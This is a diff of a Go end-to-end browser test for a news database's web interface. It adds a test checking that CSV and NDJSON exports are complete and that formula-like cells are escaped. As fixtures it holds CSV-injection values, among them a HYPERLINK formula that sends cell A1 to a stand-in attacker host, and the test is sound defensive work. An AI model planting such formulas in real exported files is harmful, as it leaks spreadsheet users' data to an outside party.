@@ -1,19 +1,24 @@
 package web
 
 import (
+	"bytes"
 	"context"
+	"encoding/csv"
+	"encoding/json"
 	"fmt"
 	"net/http/httptest"
 	"net/url"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
+	"github.com/chromedp/cdproto/browser"
 	"github.com/chromedp/cdproto/cdp"
 	"github.com/chromedp/cdproto/emulation"
 	"github.com/chromedp/cdproto/input"
@@ -24,7 +29,9 @@ import (
 	"github.com/chromedp/chromedp"
 	"github.com/chromedp/chromedp/kb"
 
+	"github.com/datelinenews/dateline/pipeline"
 	"github.com/datelinenews/dateline/pipeline/corrections"
+	"github.com/datelinenews/dateline/pipeline/pipelinetest"
 )
 
 // shots is where screenshots go, which git ignores.
@@ -39,15 +46,15 @@ func chromium(t *testing.T) string {
 		}
 	}
 	const why = "no Chromium: install it (Debian: apt-get install chromium)"
-	if os.Getenv("DATELINE_REQUIRE_SERVERS") == "1" {
+	if os.Getenv("CI") == "true" || os.Getenv("DATELINE_REQUIRE_SERVERS") == "1" {
 		t.Fatal(why)
 	}
 	t.Skip(why)
 	return ""
 }
 
-// browser is a tab, and what it complained about.
-type browser struct {
+// tab is one of the browser, and what it complained about.
+type tab struct {
 	t    *testing.T
 	ctx  context.Context
 	base string
@@ -56,7 +63,7 @@ type browser struct {
 	complain []string
 }
 
-func newBrowser(t *testing.T, base string) *browser {
+func newBrowser(t *testing.T, base string) *tab {
 	t.Helper()
 	opts := append(chromedp.DefaultExecAllocatorOptions[:],
 		chromedp.ExecPath(chromium(t)), chromedp.NoSandbox, chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1280, 900),
@@ -68,7 +75,7 @@ func newBrowser(t *testing.T, base string) *browser {
 	t.Cleanup(stop)
 	ctx, stop = chromedp.NewContext(ctx)
 	t.Cleanup(stop)
-	b := &browser{t: t, ctx: ctx, base: base}
+	b := &tab{t: t, ctx: ctx, base: base}
 	// The first action starts the browser, and must be of the context that lives longest.
 	if err := chromedp.Listen(ctx, b.listen); err != nil {
 		t.Fatal(err)
@@ -79,7 +86,7 @@ func newBrowser(t *testing.T, base string) *browser {
 }
 
 // listen notes errors in the console, and requests that go elsewhere.
-func (b *browser) listen(event any) {
+func (b *tab) listen(event any) {
 	said := ""
 	switch e := event.(type) {
 	case *runtime.EventExceptionThrown:
@@ -106,7 +113,7 @@ func (b *browser) listen(event any) {
 	}
 }
 
-func (b *browser) quiet() {
+func (b *tab) quiet() {
 	b.t.Helper()
 	b.mu.Lock()
 	defer b.mu.Unlock()
@@ -116,7 +123,7 @@ func (b *browser) quiet() {
 	b.complain = nil
 }
 
-func (b *browser) do(actions ...chromedp.Action[chromedp.Void]) {
+func (b *tab) do(actions ...chromedp.Action[chromedp.Void]) {
 	b.t.Helper()
 	ctx, cancel := context.WithTimeout(b.ctx, time.Minute)
 	defer cancel()
@@ -126,20 +133,20 @@ func (b *browser) do(actions ...chromedp.Action[chromedp.Void]) {
 }
 
 // call sends a command of the protocol.
-func call[P, R any](b *browser, c cdp.Command[P, R], params P) {
+func call[P, R any](b *tab, c cdp.Command[P, R], params P) {
 	b.t.Helper()
 	if _, err := chromedp.Call(b.ctx, c, params); err != nil {
 		b.t.Fatal(err)
 	}
 }
 
-func (b *browser) open(path string) {
+func (b *tab) open(path string) {
 	b.t.Helper()
 	b.do(chromedp.Navigate(b.base+path), chromedp.WaitReady("main"))
 }
 
 // eval evaluates a script in the page.
-func eval[T any](b *browser, script string) T {
+func eval[T any](b *tab, script string) T {
 	b.t.Helper()
 	v, err := chromedp.Run(b.ctx, chromedp.Evaluate[T](script))
 	if err != nil {
@@ -150,7 +157,7 @@ func eval[T any](b *browser, script string) T {
 
 // until waits for a script to be true. While a page goes and another comes it can't be evaluated,
 // which is no failure.
-func (b *browser) until(script string) {
+func (b *tab) until(script string) {
 	b.t.Helper()
 	var last error
 	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(25 * time.Millisecond) {
@@ -165,7 +172,7 @@ func (b *browser) until(script string) {
 }
 
 // query is the question in the address.
-func (b *browser) query() string {
+func (b *tab) query() string {
 	b.t.Helper()
 	u, err := url.Parse(eval[string](b, "location.href"))
 	if err != nil {
@@ -174,7 +181,7 @@ func (b *browser) query() string {
 	return u.Path + " " + u.Query().Get("q") + u.Fragment
 }
 
-func (b *browser) shot(name string) {
+func (b *tab) shot(name string) {
 	b.t.Helper()
 	png, err := chromedp.Run(b.ctx, chromedp.CaptureScreenshot())
 	if err != nil {
@@ -188,7 +195,7 @@ func (b *browser) shot(name string) {
 	}
 }
 
-func (b *browser) size(w, h int64, phone bool) {
+func (b *tab) size(w, h int64, phone bool) {
 	b.t.Helper()
 	call(b, emulation.SetDeviceMetricsOverride, emulation.SetDeviceMetricsOverrideParams{Width: w, Height: h, DeviceScaleFactor: 1, Mobile: phone})
 }
@@ -196,12 +203,12 @@ func (b *browser) size(w, h int64, phone bool) {
 // box is where an element is.
 type rectangle struct{ X, Y, W, H float64 }
 
-func (b *browser) rect(selector string) rectangle {
+func (b *tab) rect(selector string) rectangle {
 	b.t.Helper()
 	return eval[rectangle](b, fmt.Sprintf(`(() => { const n = document.querySelector(%q); n.scrollIntoView({block: "nearest"}); const r = n.getBoundingClientRect(); return {X: r.x, Y: r.y, W: r.width, H: r.height}; })()`, selector))
 }
 
-func (b *browser) mouse(kind input.DispatchMouseEventType, x, y float64, buttons int64) {
+func (b *tab) mouse(kind input.DispatchMouseEventType, x, y float64, buttons int64) {
 	b.t.Helper()
 	p := input.DispatchMouseEventParams{Type: kind, X: x, Y: y, Buttons: buttons}
 	if kind != chromedp.MouseMoved {
@@ -386,6 +393,98 @@ func TestBrowser(t *testing.T) {
 		}
 		b.shot("hostile")
 	})
+}
+
+// TestBrowserExports clicks on the exports: what is downloaded has all rows to the end, of a result of many
+// pages, and no cell that a spreadsheet would compute.
+func TestBrowserExports(t *testing.T) {
+	if testing.Short() {
+		t.Skip("a browser takes its time")
+	}
+	const many = 2*streamPage + 50
+	const formula = `=HYPERLINK("http://evil.example/?"&A1,"a, b")`
+	recs := make([]pipeline.Record, many)
+	for i := range recs {
+		recs[i] = pipelinetest.NewRecord(fmt.Sprintf("many-%03d", i), int64(i), "Ann Brook")
+	}
+	trick := hostile()
+	trick.ID, trick.Source, trick.Title = "-1+1", formula, "Comma, \"quoted\"\nand a second line"
+	trick.Quotes[0].Text = "@SUM(A1)"
+	index := stored(t, append(recs, trick)...)
+	server := httptest.NewServer(newServer(t, Config{Store: index, PerSecond: 1e6, Burst: 1e6, Loopback: true}))
+	defer server.Close()
+	articles, quotes, err := index.Count(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	b := newBrowser(t, server.URL)
+	dir := t.TempDir()
+	call(b, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorAllow, DownloadPath: dir})
+	// download clicks on an export of the page, and returns the file.
+	download := func(page, name, file string) []byte {
+		t.Helper()
+		b.open(page)
+		b.do(chromedp.Click(`//p[@class="take"]//a[.="` + name + `"]`))
+		path := filepath.Join(dir, file)
+		for end := time.Now().Add(time.Minute); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
+			if raw, err := os.ReadFile(path); err == nil { // it has another name until it is whole
+				if err := os.Remove(path); err != nil {
+					t.Fatal(err)
+				}
+				return raw
+			}
+		}
+		left, _ := os.ReadDir(dir)
+		t.Fatalf("no %s: the folder has %v", file, left)
+		return nil
+	}
+	for _, c := range []struct {
+		page, file string
+		rows       int
+		formulas   []string // cells that must be there
+	}{
+		{"/", "articles", articles, []string{"'-1+1", "'" + formula}},
+		{"/quotes", "quotes", quotes, []string{"'-1+1", "'" + formula, "'@SUM(A1)"}},
+	} {
+		rows, err := csv.NewReader(bytes.NewReader(download(c.page, "CSV", c.file+".csv"))).ReadAll()
+		if err != nil || len(rows) != c.rows+1 {
+			t.Errorf("%s.csv has %d rows, want %d and the heads: %v", c.file, len(rows), c.rows, err)
+		}
+		seen := map[string]bool{}
+		for _, row := range rows {
+			for _, cell := range row {
+				seen[cell] = true
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s.csv has the formula %q", c.file, cell)
+				}
+			}
+		}
+		for _, cell := range append(c.formulas, "many-000", fmt.Sprintf("many-%03d", many-1)) {
+			if !seen[cell] {
+				t.Errorf("%s.csv lacks %q", c.file, cell)
+			}
+		}
+		if title := "Comma, \"quoted\""; !slices.ContainsFunc(rows, func(row []string) bool {
+			return slices.ContainsFunc(row, func(cell string) bool { return strings.HasPrefix(cell, title) })
+		}) {
+			t.Errorf("%s.csv lacks the title %s", c.file, title)
+		}
+		lines := bytes.Split(bytes.TrimSuffix(download(c.page, "NDJSON", c.file+".ndjson"), []byte("\n")), []byte("\n"))
+		if len(lines) != c.rows {
+			t.Errorf("%s.ndjson has %d lines, want %d", c.file, len(lines), c.rows)
+		}
+		for _, line := range lines {
+			if !json.Valid(line) {
+				t.Errorf("%s.ndjson has the line %.200s", c.file, line)
+			}
+		}
+	}
+	// What is exported is the query's result.
+	rows, err := csv.NewReader(bytes.NewReader(download("/?q=inquest", "CSV", "articles.csv"))).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Errorf("the export of one article has %d rows: %v", len(rows), err)
+	}
+	b.quiet()
 }
 
 func slicesWithout(list []string, part string) []string {
